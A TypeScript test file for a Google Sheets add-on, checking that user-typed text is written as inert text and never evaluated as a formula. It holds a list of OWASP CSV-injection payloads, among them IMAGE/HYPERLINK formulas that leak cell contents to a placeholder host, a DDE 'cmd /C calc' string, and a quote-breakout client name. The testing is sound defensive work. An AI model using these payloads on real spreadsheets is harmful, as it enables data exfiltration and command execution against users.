/**
 * Every string the add-on writes is inert text: what a person typed into a client tab reaches
 * Priorities, the Overview, the weekly plan, Plan History, the founder file and the mail exactly
 * as typed, and never as a formula Sheets would evaluate. The payloads are OWASP's CSV injection
 * list (https://owasp.org/www-community/attacks/CSV_Injection): a leading =, +, -, @, tab or
 * carriage return, DDE, and text already behind an apostrophe.
 */
import { describe, expect, it } from 'vitest';
import type { SheetData, Workbook } from '../../emulator/index.js';
import { addClient, loadAddon, restorable, tab, sharedFiles } from '../support/bundle.js';
import { typeRows } from '../support/typed-rows.js';

/** Each payload as the registry reads it: a cell's text is trimmed, so `\t=1` reads `=1`. */
const PAYLOADS = [
  '=IMAGE("https://x.example/?"&A1)',
  '=HYPERLINK("https://x.example/?"&A1,"Open")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
  "'=1",
];

/** A client name that would break out of the quoted label of the add-on's own link formula. */
const BREAKOUT_NAME = '"),IMAGE("https://x.example/?"&A1),("';

/**
 * The formulas the add-on builds itself: live counts over a client's cells (A1 references into
 * its tab), the client index's marks and their formula text, its links and the Overview's
 * totals. Any other formula in a generated cell came from something typed.
 */
/** A reference into a client's tab, its name quoted or not, as the engine prints it. */
const REF = String.raw`(?:'(?:[^']|'')*'|[^'!&(),]+)!\$[A-Z]+\$\d+(?::\$[A-Z]+\$\d+)?`;
const ADDON_FORMULA = new RegExp(
  String.raw`^=(HYPERLINK\("#gid=\d+(&range=A\d+)?",|HYPERLINK\("https:\/\/docs\.google\.com\/spreadsheets\/d\/[\w-]+[^"]*","Shared view"\)$|"\d+\|"&${REF}&CHAR\(30\)&${REF}$|${REF}$|FORMULATEXT\(R\d+\)&LEFT\(NOW\(\),0\)$|CTOR_CapacityHours$|IFERROR\(INDEX\(CTOR_DecisionLog_Median,MATCH\("\d+",CTOR_DecisionLog_Client,0\)\),""\)$|COUNTIFS\(${REF},|IF\(COUNT\(${REF}\)|IF\(E\d+="","",DAYS\(TODAY\(\),E\d+\)\)$|SUM\(D\d+:D\d+\)$|F\d+-D\d+$)`,
);

function formulasOf(file: Workbook, sheet: SheetData): string[] {
  const out: string[] = [];
  for (let r = 1; r <= sheet.lastRow(); r++)
    for (let c = 1; c <= sheet.lastColumn(); c++) {
      const f = file.formula(sheet, r, c);
      if (f) out.push(f);
    }
  return out;
}

function textsOf(file: Workbook, sheet: SheetData): unknown[] {
  const out: unknown[] = [];
  for (let r = 1; r <= sheet.lastRow(); r++)
    for (let c = 1; c <= sheet.lastColumn(); c++) out.push(file.read(sheet, r, c));
  return out;
}

const GENERATED = ['Priorities', 'Overview', 'Weekly Plan', 'Plan History', 'Decision log'];

/** Acme (shared with its founder) and Beacon, each with every payload typed into its tab. */
const registry = restorable(
  () => {
    const { rt, addon } = loadAddon();
    const acme = addClient(addon, { name: 'Acme', hoursPerWeek: 8, founderEmails: 'ann@acme.io' });
    const beacon = addClient(addon, { name: 'Beacon', hoursPerWeek: 8 });
    for (const name of ['Acme', 'Beacon']) {
      const sheet = tab(rt, name);
      typeRows(
        rt,
        sheet,
        'Technical debt',
        PAYLOADS.map((p) => ({
          ID: p,
          Title: p,
          Priority: p,
          Impact: 5,
          Effort: 1,
          Owner: p,
          Tags: p,
        })),
      );
      typeRows(
        rt,
        sheet,
        'Decisions',
        PAYLOADS.map((p) => ({ ID: p, Title: p, Status: 'Proposed', Deciders: p, Tags: p })),
      );
    }
    // At Acme, rows a founder view shares (a well-formed ID and choices), titled with each payload.
    typeRows(
      rt,
      tab(rt, 'Acme'),
      'Technical debt',
      PAYLOADS.map((p, i) => ({
        ID: `D-${101 + i}`,
        Title: p,
        Priority: 'High',
        Impact: 2,
        Effort: 4,
        Status: 'Open',
      })),
    );
    // A principle that avoids every payload, so each decision's tags are named in a conflict.
    const principles = tab(rt, 'Principles');
    rt.spreadsheet.writeBlock(principles, 2, 1, [
      ['P-1', 'No typed formulas', 'Security', '', PAYLOADS.join(', '), '', '', 'Active'].map(
        (v) => ({ kind: 'value' as const, value: v }),
      ),
    ]);
    // Beacon renamed by hand to a name that tries to close the link formula's quotes.
    const beaconTab = tab(rt, 'Beacon');
    rt.spreadsheet.writeBlock(beaconTab, 1, 2, [[{ kind: 'value', value: BREAKOUT_NAME }]]);
    return { rt, addon, acme, beacon };
  },
  { cacheAs: 'inert-text-registry' },
);

describe('text a person typed is written as text everywhere', () => {
  it('after refresh, the weekly plan and sharing, no generated cell holds a formula the add-on did not build, and each payload shows exactly as typed', () => {
    const { rt, addon, acme } = registry();
    addon.call('refreshPriorities');
    addon.call('generateWeeklyPlan');
    addon.call('shareClientView', { clientId: acme.id });
    addon.call('syncSharedViews');

    for (const name of GENERATED) {
      const sheet = tab(rt, name);
      const typed = formulasOf(rt.spreadsheet, sheet).filter((f) => !ADDON_FORMULA.test(f));
      expect(typed, name).toEqual([]);
    }
    const files = sharedFiles(rt);
    expect(files).toHaveLength(1);
    for (const sheet of files[0]!.sheets)
      expect(formulasOf(files[0]!, sheet), sheet.name).toEqual([]);

    // Each payload is a cell of Priorities exactly as read: its ID, Title, Priority and Owner.
    const priorities = textsOf(rt.spreadsheet, tab(rt, 'Priorities'));
    for (const p of PAYLOADS) {
      expect(
        priorities.filter((v) => v === p.trim()).length,
        JSON.stringify(p),
      ).toBeGreaterThanOrEqual(4);
    }
    // The breakout name is the label of its link, whole, in Priorities and the Overview.
    expect(priorities).toContain(BREAKOUT_NAME);
    expect(textsOf(rt.spreadsheet, tab(rt, 'Overview'))).toContain(BREAKOUT_NAME);
    expect(textsOf(rt.spreadsheet, tab(rt, 'Plan History'))).toContain(BREAKOUT_NAME);

    const plan = textsOf(rt.spreadsheet, tab(rt, 'Weekly Plan')).map(String);
    for (const p of PAYLOADS)
      expect(
        plan.some((line) => line.startsWith(`Decision ${p.trim()} ${p.trim()}: related: `)),
        JSON.stringify(p),
      ).toBe(true);
    expect(plan).toContain(`${BREAKOUT_NAME}: 8 h this week`);

    // The founder file withholds the rows whose ID and choices are not well formed; the others
    // show their titles exactly as read.
    const shared = files[0]!.sheets.flatMap((s) => textsOf(files[0]!, s));
    for (const p of PAYLOADS) expect(shared).toContain(p.trim());

    const mail = rt.outbox.at(-1)!;
    for (const p of PAYLOADS) expect(mail.body).toContain(`Decision ${p.trim()} ${p.trim()}`);
  });
});
